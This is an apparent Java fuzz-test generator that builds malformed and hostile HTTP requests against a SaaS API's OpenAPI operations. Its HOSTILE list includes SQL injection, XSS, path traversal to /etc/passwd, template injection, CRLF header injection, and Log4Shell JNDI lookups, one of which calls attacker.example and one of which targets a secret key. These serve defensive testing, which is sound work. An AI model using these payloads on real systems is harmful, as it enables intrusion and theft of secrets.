package com.acme.saas.e2e.fuzz;

import com.acme.saas.e2e.fuzz.Callers.Role;
import com.acme.saas.e2e.fuzz.Draft.Token;
import com.acme.saas.e2e.fuzz.Operations.Operation;
import com.acme.saas.e2e.fuzz.Operations.Param;
import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import org.jspecify.annotations.Nullable;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * jqwik arbitraries for bad requests, one per schema of the OpenAPI document: a valid body (or
 * path, query) of the operation with one thing wrong — a wrong type, a missing or unknown field, a
 * value past a boundary or oversized, a hostile string, a wrong content type, malformed JSON, a bad
 * path id or query parameter — and a token of any kind.
 */
final class BadRequests {

  private static final JsonMapper JSON = JsonMapper.builder().build();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  /** Strings an attacker tries first. */
  static final List<String> HOSTILE =
      List.of(
          "' OR '1'='1",
          "'; DROP TABLE users; --",
          "\" OR 1=1 --",
          "1 UNION SELECT password FROM auth.accounts --",
          "1; SELECT pg_sleep(10)",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "../../../../etc/passwd",
          "..\\..\\..\\windows\\win.ini",
          "%2e%2e%2f%2e%2e%2f",
          "${jndi:ldap://127.0.0.1:1389/a}",
          "${jndi:dns://attacker.example/x}",
          "${env:AUTH_KEY_ENCRYPTION_KEY}",
          "#{7*7}",
          "{{7*7}}",
          "%s%s%s%n",
          "\u0000",
          "a\u0000b",
          "\r\nX-Injected: 1",
          "\u202Egnp.exe",
          "\uFEFF",
          "null",
          "undefined",
          "NaN",
          "-1",
          "0",
          "true",
          "{}",
          "[]",
          " ");

  private static final List<String> CONTENT_TYPES =
      List.of(
          "text/plain",
          "application/xml",
          "application/x-www-form-urlencoded",
          "multipart/form-data; boundary=fuzz",
          "application/json; charset=UTF-16",
          "application/json;;;",
          "application/vnd.api+json",
          "application/javascript",
          "*/*",
          "json",
          "");

  private static final List<String> MALFORMED =
      List.of(
          "{",
          "}",
          "{\"a\":}",
          "{\"title\":\"x\",}",
          "{'title':'x'}",
          "[",
          "nul",
          "{\"a\":1}{\"b\":2}",
          "\uFEFF{}",
          "{\"a\":NaN}",
          "{\"a\":Infinity}",
          "{\"a\":01}",
          "{\"a\":\"\\uZZZZ\"}",
          "{\"a\":\"\u0000\"}",
          "{\"a\":1e999999}",
          "{\"a\":-99999999999999999999999999999999999999}",
          "<xml><a>1</a></xml>",
          "a=b&c=d",
          "",
          "[".repeat(20_000) + "]".repeat(20_000),
          "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));

  private static final List<String> BAD_IDS =
      List.of(
          "0",
          "-1",
          "1.5",
          "99999999999999999999",
          "00000000-0000-0000-0000-000000000000",
          "not-a-uuid",
          "%00",
          "%20",
          "null",
          "undefined",
          "%7Bid%7D",
          "x".repeat(300),
          "%F0%9F%98%80",
          "%C3%28",
          "A",
          "UPPER-CASE",
          "~",
          "*");

  private static final List<String> BAD_QUERY_VALUES =
      List.of(
          "-1",
          "0",
          "abc",
          "1e10",
          "99999999999999999999",
          "",
          "maybe",
          "1.5",
          "title,sideways",
          "nosuchfield,asc",
          "createdAt,desc,extra",
          ",",
          "%00",
          "%ZZ",
          "x".repeat(3_000));

  private final Operations operations;

  BadRequests(Operations operations) {
    this.operations = operations;
  }

  /** Any operation of the document, with something wrong, as any caller. */
  Arbitrary<Draft> drafts() {
    return Arbitraries.of(operations.all()).flatMap(this::draftsFor);
  }

  Arbitrary<Draft> draftsFor(Operation op) {
    boolean objectBody = op.body().map(s -> !properties(s).isEmpty()).orElse(false);
    List<Tuple.Tuple2<Integer, Arbitrary<Shape>>> kinds = new ArrayList<>();
    if (objectBody) {
      JsonNode schema = op.body().orElseThrow();
      kinds.add(Tuple.of(3, wrongType(schema)));
      kinds.add(Tuple.of(2, missing(schema)));
      kinds.add(Tuple.of(2, unknown(schema)));
      kinds.add(Tuple.of(3, boundary(schema)));
      kinds.add(Tuple.of(4, hostileField(schema)));
      kinds.add(Tuple.of(1, notAnObject()));
      kinds.add(Tuple.of(1, oversized(schema)));
      kinds.add(Tuple.of(2, wrongContentType(validObject(schema).map(this::text))));
    } else {
      kinds.add(Tuple.of(1, wrongContentType(Arbitraries.just("{}"))));
    }
    kinds.add(Tuple.of(2, malformed(op)));
    kinds.add(Tuple.of(op.in("path").isEmpty() ? 0 : 4, badPath(op)));
    kinds.add(Tuple.of(op.in("query").isEmpty() ? 1 : 4, badQuery(op)));
    kinds.add(Tuple.of(op.in("header").isEmpty() ? 0 : 2, badHeader(op)));
    kinds.add(Tuple.of(1, tokenOnly(op)));
    kinds.removeIf(kind -> kind.get1() == 0);
    Arbitrary<Shape> shapes = Arbitraries.frequencyOf(kinds.toArray(Tuple.Tuple2[]::new));
    Arbitrary<Token> tokens =
        Arbitraries.frequency(
            Tuple.of(14, Token.OWN),
            Tuple.of(1, Token.NONE),
            Tuple.of(1, Token.GARBAGE),
            Tuple.of(1, Token.FOREIGN_KEY),
            Tuple.of(1, Token.UNSIGNED),
            Tuple.of(1, Token.REFRESH),
            Tuple.of(1, Token.BASIC));
    Arbitrary<@Nullable String> accepts =
        Arbitraries.of("application/json", "*/*", "text/html", "application/xml").injectNull(0.6);
    return Combinators.combine(
            shapes,
            tokens,
            Arbitraries.frequency(Tuple.of(2, Role.USER), Tuple.of(1, Role.ADMIN)),
            accepts)
        .as(
            (shape, token, role, accept) ->
                new Draft(
                    op,
                    shape.kind,
                    shape.what,
                    token,
                    role,
                    shape.path,
                    shape.query,
                    shape.contentType,
                    shape.body,
                    accept,
                    shape.sent));
  }

  /** What a kind of mistake makes of the request; the rest is filled in as valid. */
  private record Shape(
      String kind,
      String what,
      Map<String, String> path,
      List<String> query,
      @Nullable String contentType,
      byte @Nullable [] body,
      List<String> sent) {

    static Shape json(String kind, String what, JsonNode body) {
      return new Shape(
          kind,
          what,
          Map.of(),
          List.of(),
          "application/json",
          JSON.writeValueAsBytes(body),
          strings(body));
    }

    static Shape raw(String kind, String what, @Nullable String contentType, String body) {
      return new Shape(
          kind,
          what,
          Map.of(),
          List.of(),
          contentType,
          body.getBytes(StandardCharsets.UTF_8),
          List.of(body));
    }
  }

  // --- body mistakes -------------------------------------------------------------------------

  private Arbitrary<Shape> wrongType(JsonNode schema) {
    return Arbitraries.of(names(schema))
        .flatMap(
            name ->
                Combinators.combine(validObject(schema), wrongTypeValue(property(schema, name)))
                    .as(
                        (body, value) ->
                            Shape.json("wrong-type", name + "=" + value, with(body, name, value))));
  }

  private Arbitrary<Shape> missing(JsonNode schema) {
    List<String> required = required(schema);
    if (required.isEmpty()) {
      return validObject(schema)
          .map(body -> Shape.json("missing", "all fields", NODES.objectNode()));
    }
    return Combinators.combine(validObject(schema), Arbitraries.of(required))
        .as(
            (body, name) -> {
              body.remove(name);
              return Shape.json("missing", name, body);
            });
  }

  private Arbitrary<Shape> unknown(JsonNode schema) {
    Arbitrary<String> names =
        Arbitraries.oneOf(
            Arbitraries.of("id", "role", "userId", "admin", "plan", "__proto__", "constructor"),
            Arbitraries.strings().alpha().ofMinLength(1).ofMaxLength(20));
    return Combinators.combine(validObject(schema), names, anyValue())
        .filter((body, name, value) -> !properties(schema).has(name))
        .as(
            (body, name, value) ->
                Shape.json("unknown-field", name + "=" + value, with(body, name, value)));
  }

  private Arbitrary<Shape> boundary(JsonNode schema) {
    return Arbitraries.of(names(schema))
        .flatMap(
            name ->
                Combinators.combine(validObject(schema), boundaryValue(property(schema, name)))
                    .as(
                        (body, value) ->
                            Shape.json(
                                "boundary",
                                name + "=" + abbreviate(value.toString()),
                                with(body, name, value))));
  }

  private Arbitrary<Shape> hostileField(JsonNode schema) {
    return Combinators.combine(validObject(schema), Arbitraries.of(names(schema)), hostile())
        .as(
            (body, name, value) ->
                Shape.json(
                    "hostile",
                    name + "=" + abbreviate(value),
                    with(body, name, NODES.stringNode(value))));
  }

  private Arbitrary<Shape> notAnObject() {
    return Arbitraries.of("[]", "[{}]", "\"text\"", "1", "null", "true")
        .map(body -> Shape.raw("not-an-object", body, "application/json", body));
  }

  private Arbitrary<Shape> oversized(JsonNode schema) {
    // Past the gateway's body limit (1 MiB, 64 KiB on auth routes).
    return Combinators.combine(
            validObject(schema), Arbitraries.of(names(schema)), Arbitraries.of(70_000, 1_100_000))
        .as(
            (body, name, size) ->
                Shape.json(
                    "oversized",
                    name + " of " + size,
                    with(body, name, NODES.stringNode("x".repeat(size)))));
  }

  private Arbitrary<Shape> wrongContentType(Arbitrary<String> bodies) {
    return Combinators.combine(bodies, Arbitraries.of(CONTENT_TYPES))
        .as(
            (body, type) ->
                Shape.raw("content-type", "'" + type + "'", type.isEmpty() ? null : type, body));
  }

  private Arbitrary<Shape> malformed(Operation op) {
    Arbitrary<String> truncated =
        op.body()
            .filter(schema -> !properties(schema).isEmpty())
            .map(
                schema ->
                    validObject(schema)
                        .map(this::text)
                        .flatMap(
                            text ->
                                Arbitraries.integers()
                                    .between(1, Math.max(1, text.length() - 1))
                                    .map(cut -> text.substring(0, cut))))
            .orElse(Arbitraries.just("{\"a\""));
    return Arbitraries.oneOf(Arbitraries.of(MALFORMED), truncated)
        .map(body -> Shape.raw("malformed-json", abbreviate(body), "application/json", body));
  }

  // --- path, query, header mistakes ----------------------------------------------------------

  private Arbitrary<Shape> badPath(Operation op) {
    Arbitrary<String> values =
        Arbitraries.oneOf(
            Arbitraries.of(BAD_IDS),
            uuids(),
            hostile().map(BadRequests::encode),
            Arbitraries.strings().all().ofMinLength(1).ofMaxLength(40).map(BadRequests::encode));
    return Combinators.combine(Arbitraries.of(op.in("path")), values, validBodyText(op))
        .as(
            (param, value, body) ->
                new Shape(
                    "bad-path",
                    param.name() + "=" + abbreviate(value),
                    Map.of(param.name(), value),
                    List.of(),
                    body == null ? null : "application/json",
                    body == null ? null : body.getBytes(StandardCharsets.UTF_8),
                    List.of(decode(value))));
  }

  private Arbitrary<Shape> badQuery(Operation op) {
    List<String> names = new ArrayList<>(op.in("query").stream().map(Param::name).toList());
    Arbitrary<String> name =
        names.isEmpty()
            ? Arbitraries.of("page", "pageSize", "q", "sort", "debug", "__proto__")
            : Arbitraries.oneOf(Arbitraries.of(names), Arbitraries.of("debug", "__proto__", "x"));
    Arbitrary<String> value =
        Arbitraries.oneOf(
            Arbitraries.of(BAD_QUERY_VALUES),
            hostile().map(BadRequests::encode),
            Arbitraries.strings().all().ofMaxLength(30).map(BadRequests::encode));
    Arbitrary<List<String>> pairs =
        Combinators.combine(name, value).as((n, v) -> n + "=" + v).list().ofMinSize(1).ofMaxSize(3);
    return Combinators.combine(pairs, validBodyText(op))
        .as(
            (query, body) ->
                new Shape(
                    "bad-query",
                    abbreviate(String.join("&", query)),
                    Map.of(),
                    query,
                    body == null ? null : "application/json",
                    body == null ? null : body.getBytes(StandardCharsets.UTF_8),
                    query.stream()
                        .map(pair -> decode(pair.substring(pair.indexOf('=') + 1)))
                        .toList()));
  }

  private Arbitrary<Shape> badHeader(Operation op) {
    Arbitrary<String> values =
        Arbitraries.oneOf(
            Arbitraries.of("", "t=1,v1=00", "\"*\"", "W/\"x\"", "x".repeat(2_000)),
            hostile().filter(BadRequests::headerSafe));
    return Combinators.combine(Arbitraries.of(op.in("header")), values, validBodyText(op))
        .as(
            (param, value, body) ->
                new Shape(
                    "bad-header",
                    param.name() + ": " + abbreviate(value),
                    Map.of("header:" + param.name(), value),
                    List.of(),
                    body == null ? null : "application/json",
                    body == null ? null : body.getBytes(StandardCharsets.UTF_8),
                    List.of(value)));
  }

  /** A valid request; only the token (of any kind) may be wrong. */
  private Arbitrary<Shape> tokenOnly(Operation op) {
    return validBodyText(op)
        .map(
            body ->
                new Shape(
                    "token",
                    "valid request",
                    Map.of(),
                    List.of(),
                    body == null ? null : "application/json",
                    body == null ? null : body.getBytes(StandardCharsets.UTF_8),
                    body == null ? List.of() : List.of(body)));
  }

  private Arbitrary<@Nullable String> validBodyText(Operation op) {
    return op.body()
        .filter(schema -> !properties(schema).isEmpty())
        .<Arbitrary<@Nullable String>>map(schema -> validObject(schema).map(this::text))
        .orElse(Arbitraries.just(null));
  }

  // --- values per schema ---------------------------------------------------------------------

  Arbitrary<ObjectNode> validObject(JsonNode schema) {
    JsonNode props = properties(schema);
    List<String> required = required(schema);
    List<Arbitrary<Tuple.Tuple2<String, JsonNode>>> fields = new ArrayList<>();
    for (String name : names(schema)) {
      Arbitrary<Tuple.Tuple2<String, JsonNode>> field =
          validValue(operations.resolve(props.get(name)), name).map(v -> Tuple.of(name, v));
      fields.add(required.contains(name) ? field : field.injectNull(0.4));
    }
    return Combinators.combine(fields)
        .as(
            values -> {
              ObjectNode body = NODES.objectNode();
              for (var value : values) {
                if (value != null) {
                  body.set(value.get1(), value.get2());
                }
              }
              return body;
            });
  }

  private Arbitrary<JsonNode> validValue(JsonNode schema, String name) {
    if (schema.has("enum")) {
      List<JsonNode> values = new ArrayList<>();
      schema.get("enum").forEach(values::add);
      return Arbitraries.of(values);
    }
    return switch (type(schema)) {
      case "boolean" -> Arbitraries.of(true, false).map(NODES::booleanNode);
      case "integer" ->
          Arbitraries.longs()
              .between(
                  (long) schema.path("minimum").asDouble(0),
                  Math.min((long) schema.path("maximum").asDouble(1_000), 1_000))
              .map(NODES::numberNode);
      case "number" ->
          Arbitraries.doubles()
              .between(schema.path("minimum").asDouble(0), schema.path("maximum").asDouble(1_000))
              .map(NODES::numberNode);
      case "array" ->
          validValue(operations.resolve(schema.path("items")), name)
              .list()
              .ofMaxSize(2)
              .uniqueElements()
              .map(
                  items -> {
                    var array = NODES.arrayNode();
                    items.forEach(array::add);
                    return (JsonNode) array;
                  });
      case "object" -> validObject(schema).map(node -> (JsonNode) node);
      default -> validString(schema, name).map(NODES::stringNode);
    };
  }

  private Arbitrary<String> validString(JsonNode schema, String name) {
    String pattern = schema.path("pattern").asString("");
    if (pattern.matches("[A-Za-z0-9_|]+")) {
      return Arbitraries.of(pattern.split("\\|"));
    }
    switch (schema.path("format").asString("")) {
      case "email" -> {
        return Arbitraries.strings()
            .withCharRange('a', 'z')
            .ofMinLength(3)
            .ofMaxLength(12)
            .map(local -> "fuzz-" + local + "@example.test");
      }
      case "uuid" -> {
        return uuids();
      }
      case "date" -> {
        return Arbitraries.integers().between(1, 28).map(day -> "2030-01-%02d".formatted(day));
      }
      case "date-time" -> {
        return Arbitraries.just("2030-01-01T00:00:00Z");
      }
      default -> {}
    }
    if (!pattern.isEmpty()) {
      return Arbitraries.strings()
          .withCharRange('a', 'z')
          .numeric()
          .ofMinLength(1)
          .ofMaxLength(20)
          .map(s -> "fuzz-" + s);
    }
    int min = Math.max(1, schema.path("minLength").asInt(0));
    int max = Math.max(min, Math.min(schema.path("maxLength").asInt(24), 24));
    if (name.toLowerCase().contains("password")) {
      return Arbitraries.strings()
          .alpha()
          .numeric()
          .ofMinLength(12)
          .ofMaxLength(24)
          .map(s -> s + "A1");
    }
    return Arbitraries.strings().alpha().numeric().withChars(' ').ofMinLength(min).ofMaxLength(max);
  }

  private Arbitrary<JsonNode> wrongTypeValue(JsonNode schema) {
    List<JsonNode> values = new ArrayList<>();
    String type = type(schema);
    if (!type.equals("string")) {
      values.add(NODES.stringNode("12"));
      values.add(NODES.stringNode("abc"));
    }
    if (!type.equals("integer") && !type.equals("number")) {
      values.add(NODES.numberNode(12));
      values.add(NODES.numberNode(-1.5));
    }
    if (type.equals("integer")) {
      values.add(NODES.numberNode(1.5));
    }
    if (!type.equals("boolean")) {
      values.add(NODES.booleanNode(true));
    }
    if (!type.equals("array")) {
      values.add(NODES.arrayNode().add(1).add("a"));
    }
    if (!type.equals("object")) {
      values.add(NODES.objectNode().put("a", 1));
    }
    values.add(NODES.nullNode());
    return Arbitraries.of(values);
  }

  private Arbitrary<JsonNode> boundaryValue(JsonNode schema) {
    return switch (type(schema)) {
      case "integer", "number" -> {
        List<JsonNode> values = new ArrayList<>();
        if (schema.has("minimum")) {
          values.add(NODES.numberNode(schema.get("minimum").asLong() - 1));
        }
        if (schema.has("maximum")) {
          values.add(NODES.numberNode(schema.get("maximum").asLong() + 1));
        }
        values.add(NODES.numberNode(Integer.MAX_VALUE + 1L));
        values.add(NODES.numberNode(Long.MIN_VALUE));
        values.add(NODES.numberNode(new BigInteger("9".repeat(40))));
        values.add(NODES.numberNode(1e308));
        values.add(NODES.numberNode(-0.0));
        yield Arbitraries.of(values);
      }
      case "array" ->
          Arbitraries.integers()
              .between(1_001, 5_000)
              .map(
                  n -> {
                    var array = NODES.arrayNode();
                    for (int i = 0; i < n; i++) {
                      array.add(
                          UUID.nameUUIDFromBytes(new byte[] {(byte) i, (byte) (i >> 8)})
                              .toString());
                    }
                    return (JsonNode) array;
                  });
      case "boolean" -> Arbitraries.of(NODES.stringNode("TRUE"), NODES.numberNode(0));
      case "object" -> Arbitraries.just(NODES.objectNode());
      default -> {
        int max = schema.path("maxLength").asInt(-1);
        int min = schema.path("minLength").asInt(0);
        List<String> values = new ArrayList<>(List.of("", " ", "\t\n", "x".repeat(10_000)));
        if (max >= 0) {
          values.add("x".repeat(max + 1));
          values.add("é".repeat(max + 1));
        }
        if (min > 1) {
          values.add("x".repeat(min - 1));
        }
        values.addAll(
            List.of("2024-02-30", "0000-00-00", "+999999999-12-31", "2030-01-01T25:00:00"));
        yield Arbitraries.of(values).map(NODES::stringNode);
      }
    };
  }

  private Arbitrary<JsonNode> anyValue() {
    return Arbitraries.oneOf(
        hostile().map(NODES::stringNode),
        Arbitraries.of(
            NODES.numberNode(1),
            NODES.booleanNode(true),
            NODES.nullNode(),
            NODES.stringNode("ADMIN"),
            NODES.arrayNode(),
            NODES.objectNode().put("role", "ADMIN")));
  }

  /** The hostile strings, random Unicode of any kind, and long Unicode. */
  static Arbitrary<String> hostile() {
    Arbitrary<String> longUnicode =
        Combinators.combine(
                Arbitraries.of("é", "漢", "\uD83D\uDE00", "\u202E", "\u200B", "e\u0301", "ﷺ"),
                Arbitraries.integers().between(100, 20_000))
            .as(String::repeat);
    return Arbitraries.frequencyOf(
        Tuple.of(4, Arbitraries.of(HOSTILE)),
        Tuple.of(2, Arbitraries.strings().all().ofMinLength(1).ofMaxLength(64)),
        Tuple.of(1, longUnicode));
  }

  private static Arbitrary<String> uuids() {
    return Arbitraries.longs().tuple2().map(t -> new UUID(t.get1(), t.get2()).toString());
  }

  // --- helpers -------------------------------------------------------------------------------

  private JsonNode properties(JsonNode schema) {
    return schema.path("properties");
  }

  private JsonNode property(JsonNode schema, String name) {
    return operations.resolve(properties(schema).path(name));
  }

  private List<String> names(JsonNode schema) {
    List<String> names = new ArrayList<>();
    for (Iterator<String> it = properties(schema).propertyNames().iterator(); it.hasNext(); ) {
      names.add(it.next());
    }
    return names;
  }

  private static List<String> required(JsonNode schema) {
    List<String> required = new ArrayList<>();
    schema.path("required").forEach(name -> required.add(name.asString()));
    return required;
  }

  private static String type(JsonNode schema) {
    JsonNode type = schema.path("type");
    if (type.isArray()) {
      for (JsonNode t : type) {
        if (!t.asString().equals("null")) {
          return t.asString();
        }
      }
    }
    if (type.isString()) {
      return type.asString();
    }
    return schema.has("properties") ? "object" : "string";
  }

  private static ObjectNode with(ObjectNode body, String name, JsonNode value) {
    ObjectNode copy = body.deepCopy();
    copy.set(name, value);
    return copy;
  }

  private String text(JsonNode body) {
    return JSON.writeValueAsString(body);
  }

  /** Every string in a JSON value, names included, so that an echo of one is not a leak. */
  static List<String> strings(JsonNode node) {
    List<String> strings = new ArrayList<>();
    collect(node, strings);
    return strings;
  }

  private static void collect(JsonNode node, List<String> strings) {
    if (node.isString()) {
      strings.add(node.asString());
    } else if (node.isObject()) {
      for (var entry : node.properties()) {
        strings.add(entry.getKey());
        collect(entry.getValue(), strings);
      }
    } else if (node.isArray()) {
      node.forEach(item -> collect(item, strings));
    }
  }

  private static String encode(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private static String decode(String value) {
    try {
      return java.net.URLDecoder.decode(value, StandardCharsets.UTF_8);
    } catch (IllegalArgumentException malformed) {
      return value;
    }
  }

  /** A header value cannot carry a line break or NUL over HTTP/1.1 without changing the request. */
  private static boolean headerSafe(String value) {
    return value.chars().allMatch(c -> c >= 0x20 && c < 0x7f);
  }

  static String abbreviate(String value) {
    String printable = value.replaceAll("\\p{Cntrl}", "?");
    return printable.length() > 80
        ? printable.substring(0, 60) + "... (" + value.length() + " chars)"
        : printable;
  }
}
